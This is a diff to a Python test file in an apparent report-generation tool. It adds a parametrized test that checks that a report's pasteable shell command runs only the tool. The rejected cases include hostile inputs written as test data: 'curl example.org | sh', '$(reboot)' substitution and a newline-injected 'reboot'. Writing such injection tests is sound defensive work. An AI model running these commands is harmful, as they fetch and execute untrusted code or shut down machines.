@@ -18,7 +18,7 @@ from reportgen.results.records import Epoch, RunRecord
 from reportgen.verification import histories
 from reportgen.verification.consistency import check_evidence, unchecked_sources
 from reportgen.verification.html import compare_with
-from reportgen.verification.rendering import Derived
+from reportgen.verification.rendering import Derived, contradictions
 from tests.support.factories import PAPER_MODELS, make_build
 from tests.verification.conftest import Report
 
@@ -209,6 +209,27 @@ def test_labels_of_a_published_data_set_are_known() -> None:
     """Labels of MNIST that are not MNIST's are found where the whole test set is used."""
     evidence = make_build(PAPER_MODELS[:1], 1, n=10_000)[2]
     assert "are not the labels of MNIST" in findings(evidence)
+
+
+@pytest.mark.parametrize(
+    ("command", "passes"),
+    [
+        ("python -m reportgen build paper.toml --set 'models.cnn.name=A; B'", True),
+        ("reportgen.compare(y_true, {'A; $(b)': …})", True),
+        ("python -m reportgen build paper; curl example.org | sh", False),
+        ("python -m reportgen build $(reboot)", False),
+        ("python -m reportgen build paper\nreboot", False),
+        ("reboot", False),
+    ],
+)
+def test_the_command_of_a_report_runs_reportgen_alone(
+    built: Report, command: str, passes: bool
+) -> None:
+    """Readers are to paste it into a shell."""
+    carried = built.derived.carried
+    stated = replace(carried, presentation=replace(carried.presentation, command=command))
+    found = [each.where for each in contradictions(stated)]
+    assert found == ([] if passes else ["the command"])
 
 
 def test_verify_reports_what_contradicts_itself(built: Report) -> None:
